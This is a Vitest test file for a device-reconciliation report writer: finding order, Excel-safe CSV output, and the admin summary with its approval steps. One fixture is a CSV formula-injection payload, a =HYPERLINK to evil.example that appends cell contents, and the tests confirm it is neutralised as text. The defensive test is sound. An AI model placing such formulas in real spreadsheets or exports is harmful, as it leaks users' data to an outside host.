import { describe, expect, it } from 'vitest';
import type { ReconcileReportInput, RunStop, SurveyResult } from '../../shared/contracts';
import { ApproveRequest } from '../../shared/reconcile/approve';
import type { Finding } from '../../shared/reconcile/model';
import { findingCsvRow, reportOrder, summaryMarkdown, writeReconcileReport } from '../../shared/reconcile/report';
import { ReconcileStore } from '../../shared/reconcile/store';
import { MemoryObjectStore } from '../../shared/storage/memory-store';
import { CONTAINERS } from '../../shared/storage/object-store';

/**
 * The reconciliation's report: what is listed and in which order, the Excel-safe CSV, and the
 * summary an admin reads first (counts, what waits for approval and how to approve it, report-only
 * and stopped wording).
 */
const RUN = 'intake-0123456789abcdef0123456789abcdef';
const RECONCILE = 'reconcile-20261207T120000000Z';
const NOW = '2026-12-07T12:30:00.000Z';
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const ARCHIVED = 'autopilot-intake-archive/processed/drops/devices.csv';

const f = (serialNumber: string, cls: Finding['class'], over: Partial<Finding> = {}): Finding => ({
  serialNumber,
  class: cls,
  evidence: [`evidence of ${serialNumber}`],
  runId: RUN,
  auto: [],
  proposed: [],
  ...over,
});

// Each finding's "since" says how long its drift stands; the letters say where it must sit.
const FINDINGS: Finding[] = [
  f('SN-RESOLVED-OLD', 'late-success', {
    since: '2026-11-01T00:00:00.000Z',
    auto: [{ kind: 'mark-late-success', serialNumber: 'SN-RESOLVED-OLD', runId: RUN }],
    results: [{ outcome: 'done', detail: 'recorded' }],
  }),
  f('SN-TAG-SKIPPED', 'group-tag-drift', {
    since: '2026-11-20T00:00:00.000Z',
    ztdId: 'ztd-t',
    auto: [{ kind: 'restore-group-tag', ztdId: 'ztd-t', serialNumber: 'SN-TAG-SKIPPED', from: 'Kiosk', to: 'Sales' }],
    results: [{ outcome: 'skipped', detail: 'the tag changed again' }],
  }),
  f('SN-ENTRA', 'entra-device-deleted', {
    since: '2026-11-10T00:00:00.000Z',
    ztdId: 'ztd-e',
    proposed: [{ kind: 'delete-and-reimport', serialNumber: 'SN-ENTRA', ztdId: 'ztd-e', archivedPath: ARCHIVED, line: 4 }],
  }),
  f('SN-FAILED', 'profile-failed', { since: '2026-11-05T00:00:00.000Z', ztdId: 'ztd-p' }),
  f('FOREIGN-1', 'foreign', {
    runId: undefined,
    evidence: ['registered outside the pipeline (no ledger entry); group tag "", notContacted'],
  }),
  f('SN-OK-1', 'in-order', { since: '2026-10-01T00:00:00.000Z' }),
  f('SN-OK-2', 'in-order', { since: '2026-10-02T00:00:00.000Z' }),
  f('SN-OK-3', 'in-order', { since: '2026-10-03T00:00:00.000Z' }),
  f(EVIL, 'registration-missing', {
    since: '2026-11-25T00:00:00.000Z',
    evidence: [`no Autopilot registration has serial ${EVIL}`],
    proposed: [{ kind: 'delete-and-reimport', serialNumber: EVIL, archivedPath: ARCHIVED, line: 9 }],
  }),
  f('SN-REC', 'leftover-import-record', {
    auto: [{ kind: 'delete-import-record', recordId: 'rec-1', importId: `${RUN}-c0` }],
    results: [null],
  }),
  f('SN-WAIT', 'profile-not-assigned', { since: '2026-11-15T00:00:00.000Z', auto: [{ kind: 'request-sync' }] }),
];
const EXPECTED_ORDER = ['SN-FAILED', 'SN-ENTRA', 'SN-WAIT', 'SN-TAG-SKIPPED', EVIL, 'SN-REC', 'SN-RESOLVED-OLD', 'FOREIGN-1'];

const survey = (over: Partial<SurveyResult> = {}): SurveyResult => ({
  reconcileId: RECONCILE,
  parts: 2,
  findings: FINDINGS.length,
  byClass: {
    'in-order': 3,
    'late-success': 1,
    'group-tag-drift': 1,
    'entra-device-deleted': 1,
    'profile-failed': 1,
    foreign: 1,
    'registration-missing': 1,
    'leftover-import-record': 1,
    'profile-not-assigned': 1,
  },
  autoActions: 4,
  proposedActions: 2,
  pages: 7,
  backfilled: 0,
  needsSync: true,
  ...over,
});
const input = (over: Partial<ReconcileReportInput> = {}): ReconcileReportInput => ({
  reconcileId: RECONCILE,
  now: NOW,
  settings: { mode: 'repair', stuckMinutes: 60 },
  survey: survey(),
  repair: { done: 1, notNeeded: 0, skipped: 1, failed: 0, writes: 0 },
  sync: { status: 'requested', note: 'sync requested' },
  ...over,
});

async function written(i: ReconcileReportInput = input()) {
  const objects = new MemoryObjectStore();
  const store = new ReconcileStore(objects);
  // Two parts, as the survey writes them; the report reads every one.
  await store.writePart(RECONCILE, 0, FINDINGS.slice(0, 6));
  await store.writePart(RECONCILE, 1, FINDINGS.slice(6));
  const outcome = await writeReconcileReport({ objects, store }, i);
  const text = async (name: string) => (await objects.get(CONTAINERS.reports, `${RECONCILE}/${name}`))!.data.toString('utf8');
  return {
    outcome,
    json: JSON.parse(await text('report.json')) as { findings: Finding[] } & Record<string, unknown>,
    csv: await text('report.csv'),
    summary: await text('summary.md'),
  };
}

describe('what is listed, in which order', () => {
  it('unresolved first, oldest first; undated after dated; resolved and foreign last', async () => {
    expect(
      [...FINDINGS]
        .sort(reportOrder)
        .filter((x) => x.class !== 'in-order')
        .map((x) => x.serialNumber),
    ).toEqual(EXPECTED_ORDER);
    const { json } = await written();
    expect(json.findings.map((x) => x.serialNumber)).toEqual(EXPECTED_ORDER);
  });

  it.each<[string, boolean, Finding]>([
    [
      'a proposal waits for an admin',
      true,
      f('A', 'entra-device-deleted', {
        proposed: [{ kind: 'retag-enrolled', serialNumber: 'A', ztdId: 'z', from: 'x', to: 'y' }],
        since: '2026-12-01T00:00:00.000Z',
      }),
    ],
    [
      'an auto action not attempted (report-only)',
      true,
      f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], since: '2026-12-01T00:00:00.000Z' }),
    ],
    [
      'an auto action failed',
      true,
      f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], results: [{ outcome: 'failed' }], since: '2026-12-01T00:00:00.000Z' }),
    ],
    [
      'an auto action skipped',
      true,
      f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], results: [{ outcome: 'skipped' }], since: '2026-12-01T00:00:00.000Z' }),
    ],
    ['a drift with no action (duplicate registration)', true, f('A', 'duplicate-registration', { since: '2026-12-01T00:00:00.000Z' })],
    [
      'auto actions done',
      false,
      f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], results: [{ outcome: 'done' }], since: '2026-12-01T00:00:00.000Z' }),
    ],
    [
      'auto actions not needed',
      false,
      f('A', 'group-tag-drift', {
        auto: [{ kind: 'request-sync' }],
        results: [{ outcome: 'not-needed' }],
        since: '2026-12-01T00:00:00.000Z',
      }),
    ],
    ['a foreign device', false, f('A', 'foreign', {})],
  ])('%s: unresolved = %s', (_, unresolved, finding) => {
    // Unresolved sorts before a resolved drift years older; resolved sorts after an unresolved one years newer.
    const other = unresolved
      ? f('B', 'late-success', { since: '2000-01-01T00:00:00.000Z', auto: [{ kind: 'request-sync' }], results: [{ outcome: 'done' }] })
      : f('B', 'duplicate-registration', { since: '2030-01-01T00:00:00.000Z' });
    expect([other, finding].sort(reportOrder).map((x) => x.serialNumber)).toEqual(unresolved ? ['A', 'B'] : ['B', 'A']);
  });

  it('devices in order are counted, not listed', async () => {
    const { json, csv, summary } = await written();
    expect(json.findings.some((x) => x.class === 'in-order')).toBe(false);
    expect(csv).not.toContain('in-order');
    expect(json.byClass).toMatchObject({ 'in-order': 3 });
    expect(summary).toContain('| in-order | 3 |');
  });

  it('report.json carries the header, the repair tally and the findings with their results; the outcome points at it', async () => {
    const { json, outcome } = await written();
    expect(json).toMatchObject({
      reconcileId: RECONCILE,
      generatedAt: NOW,
      mode: 'repair',
      examined: FINDINGS.length,
      pages: 7,
      repair: { done: 1, skipped: 1 },
      sync: { status: 'requested' },
    });
    expect(json.findings.find((x) => x.serialNumber === 'SN-TAG-SKIPPED')!.results).toEqual([
      { outcome: 'skipped', detail: 'the tag changed again' },
    ]);
    expect(outcome).toEqual({
      reconcileId: RECONCILE,
      mode: 'repair',
      reportPath: `autopilot-reports/${RECONCILE}/report.json`,
      findings: FINDINGS.length,
      byClass: survey().byClass,
      repair: input().repair,
    });
  });
});

describe('report.csv: Excel-safe', () => {
  it('has the exact header (with the BOM), a row per listed finding, CRLF line ends', async () => {
    const { csv } = await written();
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('\uFEFFclass,serialNumber,autopilotId,runId,since,evidence,autoActions,results,proposedActions');
    expect(lines.slice(1, -1)).toHaveLength(EXPECTED_ORDER.length);
    expect(lines.at(-1)).toBe('');
  });

  it('a serial that is a formula comes out as text (quote-prefixed), in every cell it appears', async () => {
    const { csv } = await written();
    const row = csv.split('\r\n').find((l) => l.startsWith('registration-missing,'))!;
    expect(row).toBe(
      `registration-missing,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",,${RUN},2026-11-25T00:00:00.000Z,"no Autopilot registration has serial =HYPERLINK(""http://evil.example/?""&A1,""open"")",,,delete-and-reimport`,
    );
    // No cell of the file starts with a formula character once its quoting is taken off.
    for (const line of csv.split('\r\n').slice(1))
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g) ?? []) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it.each<[string, Finding, Record<string, string | undefined>]>([
    [
      'results per action, "not attempted" where none',
      f('SN-2', 'group-tag-drift', {
        ztdId: 'z',
        since: '2026-12-01T00:00:00.000Z',
        auto: [{ kind: 'restore-group-tag', ztdId: 'z', serialNumber: 'SN-2', from: 'a', to: 'b' }, { kind: 'request-sync' }],
        results: [{ outcome: 'skipped', detail: 'enrolled since' }, null],
      }),
      {
        autoActions: 'restore-group-tag; request-sync',
        results: 'restore-group-tag: skipped (enrolled since); request-sync: not attempted',
      },
    ],
    [
      'no results yet (report-only): empty cells',
      f('SN-3', 'profile-stuck', { auto: [{ kind: 'request-sync' }] }),
      { autoActions: 'request-sync', results: undefined, proposedActions: undefined },
    ],
    [
      'evidence joined, proposals named',
      f('SN-4', 'ztdid-mismatch', {
        evidence: ['one', 'two'],
        proposed: [{ kind: 'delete-and-reimport', serialNumber: 'SN-4', archivedPath: ARCHIVED, line: 2 }],
      }),
      { evidence: 'one; two', proposedActions: 'delete-and-reimport', autoActions: undefined },
    ],
  ])('%s', (_, finding, cells) => {
    expect(findingCsvRow(finding)).toMatchObject(cells);
  });
});

describe('summary.md', () => {
  it('counts per class, most first, then the tiers and the repair', async () => {
    const { summary } = await written();
    expect(summary).toContain(`# Reconciliation ${RECONCILE}`);
    const table = summary.split('\n').filter((l) => /^\| [a-z-]+ \| \d+ \|$/.test(l));
    expect(table[0]).toBe('| in-order | 3 |');
    expect(table).toHaveLength(Object.keys(survey().byClass).length);
    expect(table).toContain('| registration-missing | 1 |');
    expect(summary).toContain('Auto actions: 4; proposed (need an admin): 2.');
    expect(summary).toContain('Repair: 1 done, 0 not needed, 1 skipped (changed since the survey), 0 failed; 0 writes to the tenant.');
  });

  it('lists what waits for approval, and shows how to approve with a body the approve endpoint accepts', async () => {
    const { summary } = await written();
    expect(summary).toContain('## Waiting for approval');
    expect(summary).toContain(`POST /api/reconcile/${RECONCILE}/approve`);
    const waiting = summary.slice(summary.indexOf('## Waiting for approval'));
    expect(waiting).toContain('- SN-ENTRA (entra-device-deleted): delete-and-reimport — evidence of SN-ENTRA');
    // Every request body the instructions show must be one ApproveRequest takes as it is.
    const bodies = [...waiting.matchAll(/`(\{.*?\})`/g)].map((m) => m[1]!);
    expect(bodies.length).toBeGreaterThanOrEqual(2);
    for (const body of bodies) expect(ApproveRequest.safeParse(JSON.parse(body)).success, body).toBe(true);
  });

  it('with BASELINE_FILE: a "Baseline drift" section with the counts and the plan lines, in report.json and the outcome too', async () => {
    const baselineDrift = {
      changes: 2,
      conflicts: 0,
      lines: [
        '~ update ESP autopilot-esp (esp-1)',
        '    installProgressTimeoutInMinutes: 30 → 60',
        '~ ESP order: autopilot-esp priority 2 → 1',
      ],
      more: 0,
    };
    const settings = { mode: 'repair' as const, stuckMinutes: 60, baselineFile: 'baseline/tenant.json' };
    const { summary, json, outcome } = await written(input({ settings, baselineDrift }));
    const section = summary.slice(summary.indexOf('## Baseline drift'));
    expect(section).toContain('2 change(s) and 0 conflict(s) against baseline/tenant.json');
    expect(section).toContain('    installProgressTimeoutInMinutes: 30 → 60');
    expect(json.baselineDrift).toEqual(baselineDrift);
    expect(outcome.baselineDrift).toEqual(baselineDrift);

    const clean = summaryMarkdown(input({ settings, baselineDrift: { changes: 0, conflicts: 0, lines: [], more: 0 } }), []);
    expect(clean).toContain('## Baseline drift\n\nThe tenant matches the baseline (baseline/tenant.json).');
    const failed = summaryMarkdown(
      input({ settings, baselineDrift: { changes: 0, conflicts: 0, lines: [], more: 0, error: 'listGroups: denied' } }),
      [],
    );
    expect(failed).toContain('The baseline could not be planned: listGroups: denied');
    expect(summaryMarkdown(input(), [])).not.toContain('Baseline drift');
  });

  it('no proposals: no approval section', () => {
    const text = summaryMarkdown(input({ survey: survey({ proposedActions: 0 }) }), [FINDINGS[0]!, FINDINGS[1]!]);
    expect(text).not.toContain('approve');
  });

  it.each<[string, Partial<ReconcileReportInput>, string, string[]]>([
    [
      'report-only: says nothing was changed',
      { settings: { mode: 'report-only', stuckMinutes: 60 }, repair: undefined, sync: undefined },
      'Report only: nothing in the tenant was changed.',
      ['Repair:', 'Sync:'],
    ],
    [
      'repair mode stopped before the repair: nothing changed',
      { repair: undefined, sync: undefined },
      'Nothing in the tenant was changed.',
      ['Repair:', 'Report only'],
    ],
  ])('%s', (_, over, wording, absent) => {
    const text = summaryMarkdown(input(over), []);
    expect(text).toContain(wording);
    for (const a of absent) expect(text).not.toContain(a);
    expect(text).toContain(`mode **${over.settings?.mode ?? 'repair'}**`);
  });

  it('a stopped reconciliation names what failed and the fix', async () => {
    const stopped: RunStop = {
      kind: 'permission',
      operation: 'listDevices',
      status: 403,
      code: 'Authorization_RequestDenied',
      message:
        'Microsoft Graph denied GET v1.0/devices (listDevices) (Authorization_RequestDenied); it needs the application permission Device.Read.All.',
      fix: "Grant the Function App's managed identity the Microsoft Graph application permission Device.Read.All.",
      phase: 'survey',
      at: NOW,
    };
    const { summary, json, outcome } = await written(input({ survey: undefined, repair: undefined, sync: undefined, stopped }));
    expect(summary).toContain(`**Stopped** in survey: ${stopped.message}`);
    expect(summary).toContain(`Fix: ${stopped.fix}`);
    expect(summary).toContain('Nothing in the tenant was changed.');
    expect(json).toMatchObject({ stopped, findings: [] });
    expect(outcome.stopped).toEqual(stopped);
  });

  it('says when the ledger was backfilled from earlier reports', () => {
    expect(summaryMarkdown(input({ survey: survey({ backfilled: 12 }) }), [])).toContain(
      'The ledger was backfilled with 12 devices from earlier intake reports',
    );
  });
});
